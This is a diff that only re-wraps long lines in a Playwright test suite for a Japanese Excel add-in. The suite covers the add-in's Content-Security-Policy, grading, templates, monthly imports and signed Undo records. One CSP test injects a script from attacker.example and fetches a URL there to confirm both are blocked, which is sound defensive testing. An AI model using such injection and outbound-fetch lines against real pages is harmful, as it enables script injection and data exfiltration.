@@ -50,7 +50,7 @@ afterEach(() => {
 
 async function build(): Promise<void> {
   process.env.ADDIN_BASE_URL = BASE;
-   
+
   const pane = await require(path.join(ROOT, 'webpack.config.js'))({ outDir: out }, { mode: 'production' });
   const fake: webpack.Configuration = {
     mode: 'development',
@@ -78,7 +78,9 @@ beforeAll(async () => {
     const file = path.join(out, decodeURIComponent(new URL(req.url!, 'http://x').pathname));
     try {
       const body = await fs.readFile(file);
-      res.writeHead(200, { 'content-type': file.endsWith('.html') ? 'text/html; charset=utf-8' : file.endsWith('.js') ? 'text/javascript' : 'application/octet-stream' });
+      res.writeHead(200, {
+        'content-type': file.endsWith('.html') ? 'text/html; charset=utf-8' : file.endsWith('.js') ? 'text/javascript' : 'application/octet-stream',
+      });
       res.end(body);
     } catch {
       res.writeHead(404).end();
@@ -88,7 +90,16 @@ beforeAll(async () => {
   origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
   browser = await chromium.launch({
     executablePath: CHROMIUM,
-    args: ['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--disable-quic'],
+    args: [
+      '--no-sandbox',
+      '--disable-gpu',
+      '--disable-dev-shm-usage',
+      '--disable-background-networking',
+      '--disable-component-update',
+      '--disable-sync',
+      '--no-first-run',
+      '--disable-quic',
+    ],
   });
 });
 
@@ -103,7 +114,9 @@ async function openPane(lang = 'ja-JP', fixture: WorkbookSnapshot = snapshot, ap
   page.on('console', (m) => void (CSP_TEXT.test(m.text()) && cspProblems.push(`console: ${m.text()}`)));
   page.on('pageerror', (e) => void (CSP_TEXT.test(`${e.name} ${e.message}`) && cspProblems.push(`pageerror: ${e.message}`)));
   // Also what the browser reports without printing it.
-  await page.addInitScript(() => document.addEventListener('securitypolicyviolation', (e) => console.error(`Content Security Policy violation: ${e.violatedDirective} ${e.blockedURI}`)));
+  await page.addInitScript(() =>
+    document.addEventListener('securitypolicyviolation', (e) => console.error(`Content Security Policy violation: ${e.violatedDirective} ${e.blockedURI}`)),
+  );
   await page.route('**/*', async (route) => {
     const url = route.request().url();
     if (url === CDN) return route.fulfill({ path: `${out}-fake/fake-office.js`, contentType: 'text/javascript' });
@@ -111,12 +124,17 @@ async function openPane(lang = 'ja-JP', fixture: WorkbookSnapshot = snapshot, ap
     blocked.push(url);
     return route.abort();
   });
-  await page.addInitScript(({ fixture, l, apiMinor }) => Object.assign(window, { __FIXTURE: fixture, __LANG: l, __API_MINOR: apiMinor }), { fixture, l: lang, apiMinor });
+  await page.addInitScript(({ fixture, l, apiMinor }) => Object.assign(window, { __FIXTURE: fixture, __LANG: l, __API_MINOR: apiMinor }), {
+    fixture,
+    l: lang,
+    apiMinor,
+  });
   await page.goto(`${origin}/taskpane.html`);
   return page;
 }
 
-const fakeValue = (page: Page, sheet: string, cell: string) => page.evaluate(([s, c]) => (window as unknown as { __fake: { value: (s: string, c: string) => unknown } }).__fake.value(s, c), [sheet, cell]);
+const fakeValue = (page: Page, sheet: string, cell: string) =>
+  page.evaluate(([s, c]) => (window as unknown as { __fake: { value: (s: string, c: string) => unknown } }).__fake.value(s, c), [sheet, cell]);
 
 test('the build writes the manifest with the production base URL', async () => {
   const manifest = await fs.readFile(path.join(out, 'manifest.xml'), 'utf8');
@@ -128,12 +146,20 @@ test('the build writes the manifest with the production base URL', async () => {
 
 test('the built pages carry a strict Content-Security-Policy before any script', async () => {
   const { contentSecurityPolicy } = require(path.join(ROOT, 'webpack.config.js'));
-  for (const [file, expected] of [['taskpane.html', contentSecurityPolicy({ localOffice: false })], ['help.html', null]] as const) {
+  for (const [file, expected] of [
+    ['taskpane.html', contentSecurityPolicy({ localOffice: false })],
+    ['help.html', null],
+  ] as const) {
     const html = await fs.readFile(path.join(out, file), 'utf8');
     const meta = /<meta http-equiv="?Content-Security-Policy"? content="([^"]+)"/i.exec(html);
     expect(meta).not.toBeNull();
     if (expected) expect(meta![1]).toBe(expected);
-    const csp = new Map(meta![1].split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
+    const csp = new Map(
+      meta![1]
+        .split(';')
+        .map((d) => d.trim().split(/\s+/))
+        .map(([k, ...v]) => [k, v]),
+    );
     expect([...csp.values()].flat()).not.toContain("'unsafe-eval'");
     expect(csp.get('script-src') ?? csp.get('default-src')).not.toContain("'unsafe-inline'");
     expect(csp.get('object-src') ?? csp.get('default-src')).toEqual(["'none'"]);
@@ -154,7 +180,10 @@ test('the policy is in force in the pane: an injected script and a call to anoth
     const remote = document.createElement('script');
     remote.src = 'https://attacker.example/x.js';
     document.head.appendChild(remote);
-    const fetched = await fetch('https://attacker.example/?d=1').then(() => 'sent', (e: Error) => e.name);
+    const fetched = await fetch('https://attacker.example/?d=1').then(
+      () => 'sent',
+      (e: Error) => e.name,
+    );
     await new Promise((r) => setTimeout(r, 200));
     return { injected: w.__injected === true, fetched };
   });
@@ -187,7 +216,10 @@ test('Check, a finding, Grade and Undo on the fake Excel', async () => {
   if (withCell) {
     await page.getByRole('button', { name: withCell.cell! }).first().click();
     await page.waitForFunction(() => (window as unknown as { __fake: { selected: unknown } }).__fake.selected !== null);
-    expect(await page.evaluate(() => (window as unknown as { __fake: { selected: unknown } }).__fake.selected)).toEqual({ sheet: withCell.sheet, address: withCell.cell });
+    expect(await page.evaluate(() => (window as unknown as { __fake: { selected: unknown } }).__fake.selected)).toEqual({
+      sheet: withCell.sheet,
+      address: withCell.cell,
+    });
   }
 
   // Grade
@@ -198,7 +230,9 @@ test('Check, a finding, Grade and Undo on the fake Excel', async () => {
   const confirm = page.getByTestId('grade-confirm');
   await confirm.waitFor();
   const replaced = plan.cells.filter((c) => c.previous !== null && c.previous !== '').length;
-  expect(await confirm.textContent()).toContain(`${plan.cells.length - replaced} 個の空欄に評価を記入し、${replaced} 個の記入済みの評価を計算結果で置き換えます。`);
+  expect(await confirm.textContent()).toContain(
+    `${plan.cells.length - replaced} 個の空欄に評価を記入し、${replaced} 個の記入済みの評価を計算結果で置き換えます。`,
+  );
   for (const c of plan.cells) expect(await fakeValue(page, c.sheet, c.cell)).toBe(c.previous ?? '');
   await confirm.getByRole('button', { name: '置き換えて記入する' }).click();
   await page.getByTestId('changes').waitFor();
@@ -281,8 +315,15 @@ test('年次・月次: ひな形 in a blank workbook, graded with its sheets pro
   await page.getByRole('checkbox', { name: /サンプルデータ/ }).check();
   await page.getByRole('button', { name: 'ひな形を作成する' }).click();
   await page.getByTestId('template-done').waitFor();
-  const sheets = () => page.evaluate(() => (window as unknown as { __fake: { sheets: { name: string; protected: boolean }[] } }).__fake.sheets.map((x) => [x.name, x.protected]));
-  expect(await sheets()).toEqual(expect.arrayContaining([['施策評価', true], ['事業実績', true], ['評価設定', false]]));
+  const sheets = () =>
+    page.evaluate(() => (window as unknown as { __fake: { sheets: { name: string; protected: boolean }[] } }).__fake.sheets.map((x) => [x.name, x.protected]));
+  expect(await sheets()).toEqual(
+    expect.arrayContaining([
+      ['施策評価', true],
+      ['事業実績', true],
+      ['評価設定', false],
+    ]),
+  );
   await page.screenshot({ path: path.join(SHOTS, 'template.png'), fullPage: true });
   await page.getByRole('tab', { name: '評価を記入' }).click();
   await page.getByRole('button', { name: '評価を記入する' }).click();
@@ -304,7 +345,12 @@ test('年次・月次: ひな形 in a blank workbook, graded with its sheets pro
         top: 1,
         left: 1,
         merges: [],
-        values: [['令和6年度　月別実績'], ['番号', '指標名', '単位', '区分', '年間目標', ...months, '累計'], ['K-01', '窓口相談件数', '件', '実績', 1200, 110], ['K-02', '講座の参加者数', '人', '実績', 600, 30]],
+        values: [
+          ['令和6年度　月別実績'],
+          ['番号', '指標名', '単位', '区分', '年間目標', ...months, '累計'],
+          ['K-01', '窓口相談件数', '件', '実績', 1200, 110],
+          ['K-02', '講座の参加者数', '人', '実績', 600, 30],
+        ],
       },
     ],
   };
@@ -313,7 +359,20 @@ test('年次・月次: ひな形 in a blank workbook, graded with its sheets pro
     const csv = path.join(dir, '基幹系_5月.csv');
     await fs.writeFile(csv, encodeShiftJis(['指標ID,指標名,5月', 'K-01,窓口相談件数,95', 'K-99,なし,1', ''].join('\r\n')));
     const xlsx = path.join(dir, '基幹系_6月.xlsx');
-    await fs.writeFile(xlsx, new Uint8Array((await buildWorkbook([{ name: '出力', rows: [[{ value: '指標名' }, { value: '実績値' }], [{ value: '講座の参加者数' }, { value: 52 }]] }]).xlsx.writeBuffer()) as ArrayBuffer));
+    await fs.writeFile(
+      xlsx,
+      new Uint8Array(
+        (await buildWorkbook([
+          {
+            name: '出力',
+            rows: [
+              [{ value: '指標名' }, { value: '実績値' }],
+              [{ value: '講座の参加者数' }, { value: 52 }],
+            ],
+          },
+        ]).xlsx.writeBuffer()) as ArrayBuffer,
+      ),
+    );
     const pane = await openPane('ja-JP', monthly);
     await pane.getByRole('tab', { name: '年次・月次' }).click();
     await pane.getByRole('tab', { name: '月次実績' }).click();
@@ -338,9 +397,10 @@ test('年次・月次: ひな形 in a blank workbook, graded with its sheets pro
   expect(blocked).toEqual([]);
 });
 
-const createdWorkbooks = (page: Page) => page.evaluate(() => (window as unknown as { __fake: { createdWorkbooks: { base64: string }[] } }).__fake.createdWorkbooks.map((w) => w.base64));
+const createdWorkbooks = (page: Page) =>
+  page.evaluate(() => (window as unknown as { __fake: { createdWorkbooks: { base64: string }[] } }).__fake.createdWorkbooks.map((w) => w.base64));
 
-test('次の期間へ asks first in a dialog with the counts (cancel changes nothing), then opens the next period\'s workbook as a new workbook; without ExcelApi 1.8 the dialog says so and changes the open one', async () => {
+test("次の期間へ asks first in a dialog with the counts (cancel changes nothing), then opens the next period's workbook as a new workbook; without ExcelApi 1.8 the dialog says so and changes the open one", async () => {
   const demo = workbookSnapshot(buildWorkbook(demoWorkbookSpecs()));
   const checked = checkWorkbook(demo, { file: 'このブック' });
   const expected = planRoll(demo, checked, checked.report.period!.fiscalYear + 1);
@@ -428,7 +488,11 @@ test('Undo refuses a record edited in the workbook (Web Crypto and localStorage 
     await page.getByRole('tab', { name: ja ? '元に戻す' : 'Undo' }).click();
     const refused = page.getByTestId('undo-refused');
     await refused.waitFor();
-    expect(await refused.textContent()).toMatch(ja ? /信頼できないため、元に戻しません：記録の署名が一致しません.*何も変更していません/ : /cannot be trusted \(its signature does not match.*Nothing in the workbook was changed/);
+    expect(await refused.textContent()).toMatch(
+      ja
+        ? /信頼できないため、元に戻しません：記録の署名が一致しません.*何も変更していません/
+        : /cannot be trusted \(its signature does not match.*Nothing in the workbook was changed/,
+    );
     expect(await page.getByRole('button', { name: t.undo }).isDisabled()).toBe(true);
     expect(await fakeValue(page, before.sheet, before.cell)).toBe(before.value);
     expect(await page.evaluate(() => !!(window as unknown as { __fake: Fake }).__fake.sheet('評価サマリー'))).toBe(true);
